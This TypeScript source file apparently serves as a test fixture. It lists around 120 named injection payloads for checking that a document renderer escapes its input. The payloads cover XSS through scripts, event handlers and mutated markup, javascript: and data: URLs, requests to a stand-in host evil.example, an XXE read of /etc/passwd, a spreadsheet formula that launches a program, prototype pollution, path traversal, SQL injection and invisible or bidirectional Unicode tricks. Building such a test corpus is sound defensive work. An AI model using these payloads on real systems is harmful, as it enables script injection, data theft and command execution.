/**
 * Shapes of attacks: what somebody might write into a document so that a page, a table or a feed does more than show
 * it. `§` stands for the mark that tells each text from all others.
 */
export interface Attack {
  /** Said like a sentence: `an image that fails to load`. */
  name: string
  shape: string
}

const table: Record<string, string> = {
  'a script': "<script>alert('§')</script>",
  'a script from elsewhere': '<script src=//evil.example/§.js></script>',
  'a script in odd capitals': '<ScRiPt>§</sCrIpT>',
  'a script with a slash in its name': '<script/x>§</script>',
  'a script that stays open': '<script>§',
  'a script within its own name': '<scr<script>ipt>§</scr</script>ipt>',
  'the end of a script and another': '</script><script>§</script>',
  'the end of a script with a space': '</script ><img src=x onerror=§>',
  'a comment that opens in a script': '<!--<script>§</script>',
  'the end of data in JSON': '"}</script><script>§</script>{"',
  'an image that fails to load': "<img src=x onerror=alert('§')>",
  'the end of an attribute and an image': '"><img src=x onerror="§">',
  'the end of a quoted attribute': "'><svg onload='§'>",
  'a handler behind a double quote': '" onmouseover="§" x="',
  'a handler behind a single quote': "' autofocus onfocus='§' x='",
  'a handler behind a backtick': '`onclick=§`',
  'a handler behind a slash': '/onclick=§/',
  'a drawing that runs when loaded': '<svg onload=§>',
  'a script in a drawing': '<svg><script>§</script></svg>',
  'a drawing that uses another': '<svg><use href="data:image/svg+xml,§#x"/></svg>',
  'an address that a drawing animates':
    '<svg><a><animate attributeName=href values=javascript:§ />§</a></svg>',
  'a page within a drawing': '<svg><foreignObject><iframe srcdoc="§"></iframe></foreignObject></svg>',
  'a formula that is a link': '<math href="javascript:§">§</math>',
  'a formula that changes when parsed again':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
  'a page without scripts that has one': '<noscript><p title="</noscript><img src=x onerror=§>">',
  'a template': '<template><script>§</script></template>',
  'styles within styles': '<style><style/><img src=x onerror=§>',
  'a list of choices that ends early': '<select><iframe></select><img src=x onerror=§>',
  'a form within a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>',
  'plain text to the end': '<plaintext>§',
  'the end of a title': '</title><script>§</script>',
  'the end of a text area': '</textarea><img src=x onerror=§>',
  'the end of styles': '</style><script>§</script>',
  'a body that runs': '<body onload=§>',
  'a frame': '<iframe src="javascript:§"></iframe>',
  'a frame written out': '<iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>',
  'an object': '<object data="data:text/html,§"></object>',
  'an embedded file': '<embed src="javascript:§">',
  'another base': '<base href="https://evil.example/§/">',
  'a page that goes elsewhere': '<meta http-equiv=refresh content="0;url=javascript:§">',
  'a style sheet from elsewhere': '<link rel=stylesheet href=//evil.example/§.css>',
  'styles from elsewhere': "<style>@import '//evil.example/§'</style>",
  'a style attribute': '<p style="background:url(javascript:§)">§</p>',
  'a form to elsewhere': '<form action=//evil.example/§><button>§</button></form>',
  'a button with an address': '<button formaction=javascript:§>§</button>',
  'a field that takes the focus': '<input autofocus onfocus=§>',
  'details that open': '<details open ontoggle=§>§</details>',
  'a film that fails': '<video><source onerror=§></video>',
  'a picture with a set of sources': '<img srcset="//evil.example/§ 1x">',
  'a frame around a page': '<frameset onload=§>',
  'an element of ours': '<table-explorer data-name="§">§</table-explorer>',
  'a slot': '<slot name="head">§</slot>',
  'a link that runs': '<a href="javascript:alert(\'§\')">§</a>',
  'a link that runs, a tab in its name': '<a href="java&#9;script:§">§</a>',
  'a link that tells elsewhere': '<a href="/" ping="//evil.example/§">§</a>',
  'a section of CDATA': '<![CDATA[<script>§</script>]]>',
  'the end of a section of CDATA': ']]><script>§</script><![CDATA[',
  'an instruction': '<?xml-stylesheet href="javascript:§"?>',
  'a document type with an entity': '<!DOCTYPE x [<!ENTITY § SYSTEM "file:///etc/passwd">]>&§;',
  'entities that become tags': '&lt;script&gt;§&lt;/script&gt;',
  'numbers that become tags': '&#60;img src=x onerror=§&#62;',
  'hexadecimal numbers that become tags': '&#x3c;svg onload=§&#x3E;',
  'entities twice over': '&amp;lt;script&amp;gt;§',
  'entities that are none': '&§ &amp;§; &notit; &#xFFFFFFFF;',
  'an address that runs': "javascript:alert('§')",
  'an address that runs, in odd capitals': 'JaVaScRiPt://%0a§',
  'an address that is data': 'data:text/html;base64,§',
  'an address of old': 'vbscript:§',
  'an address without a scheme': '//evil.example/§',
  'an address elsewhere': 'https://evil.example/§?a=1&b=<c>',
  'an address of a file': 'file:///etc/§',
  'a name and a password in an address': 'https://www.gansu.gov.cn@evil.example/§',
  'a template of Vue': "{{constructor.constructor('alert(§)')()}}",
  'a template of JavaScript': `\${alert("§")}\``,
  'a template of a server': '<%= § %><?php § ?>',
  'a template of Astro': '{§}{...§}<Fragment set:html={§} />',
  TeX: '\\input{§}$$\\href{javascript:§}{x}$$',
  'the end of an entry in BibTeX': '}}, url={javascript:§}}@misc{§,',
  'the end of an entry in RIS': 'ER  - §TY  - RPRT',
  'a form that covers the attributes of the page': '<form id=early name=attributes>§</form>',
  'an anchor that covers the main part': '<a id=main name=main>§</a>',
  'an image that covers a function': '<img name=getElementById id=location alt=§>',
  'a key of all objects': '__proto__[§]=1',
  'a maker of all objects': 'constructor.prototype.§',
  'Markdown: a link that runs': '[§](javascript:§)',
  'Markdown: an image that is data': '![§](data:image/svg+xml,§ "§")',
  'Markdown: an address in angles': '<javascript:§>',
  'Markdown: an image with a handler': '![§](x"onerror="§)',
  'Markdown: a definition': '[§]: javascript:§',
  'Markdown: a row of a table': '| § | <script> |',
  'Markdown: a fence': '```html <script>§</script>```',
  'text turned round': '附\u202e§exe.\u202c件',
  'text turned round and closed elsewhere': '附\u2067§\u2066件',
  'text turned round and never closed': '投资\u202d\u202e§001亿元',
  'letters from right to left': 'שלום § 123',
  'characters of no width': '甲\u200b§\u2060\ufeff乙',
  'letters without a picture': '甲\u3164§\u115f\uffa0乙',
  'tags nobody sees': '甲§\u{e0073}\u{e0063}\u{e007f}乙',
  'an escape to the terminal': '甲\u001b]8;;javascript:§\u0007乙\u001b[2J',
  'control characters': '甲\u0001\u0008\u007f\u009b31m§乙',
  'what is no character': '甲\ufffe§\uffff\ufdd0乙',
  'soft hyphens': '甲\u00ad§\u00ad乙',
  'marks upon marks': '§e\u0301\u0300\u0302\u0303\u0304\u0305\u0306',
  'a formula of a sheet': '=1+§',
  'a formula that leads elsewhere': '=HYPERLINK("//evil.example/?§","甲")',
  'a formula that calls a program': "=cmd|'/C calc'!§",
  'a formula that begins with a sum': '+§+1',
  'a formula that begins with a difference': '-§-1',
  'a formula that begins with a name': '@SUM(§)',
  'a formula in wide signs': '＝§＋1',
  'a formula within quotes': '"=§"',
  'a formula behind a comma': '甲,=§',
  'a formula behind a semicolon': '甲;=§',
  'a way out of a folder': '../../../etc/§',
  'a way out with turned slashes': '..\\..\\windows\\§',
  'a way from the root': '/etc/§',
  'a way on a disk': 'C:\\§:stream',
  'a way out in bytes': '%2e%2e%2f%252e§',
  'a name for devices': 'CON§.txt',
  'a search that never ends': "' OR 1=1;-- §",
  'faces and flags': '😀§👨‍👩‍👧🇨🇳'
}

export const attacks: readonly Attack[] = Object.entries(table).map(([name, shape]) => ({name, shape}))

/** `hxaab`: in letters only, so that no reader takes it for a number, and in no word of a real text. */
export function markOf(number: number): string {
  let letters = ''
  for (let rest = number, place = 0; place < 3; place++, rest = Math.floor(rest / 26))
    letters = String.fromCharCode(97 + (rest % 26)) + letters
  return `hx${letters}`
}

export function withMark({shape}: Attack, mark: string): string {
  return shape.replaceAll('§', mark)
}
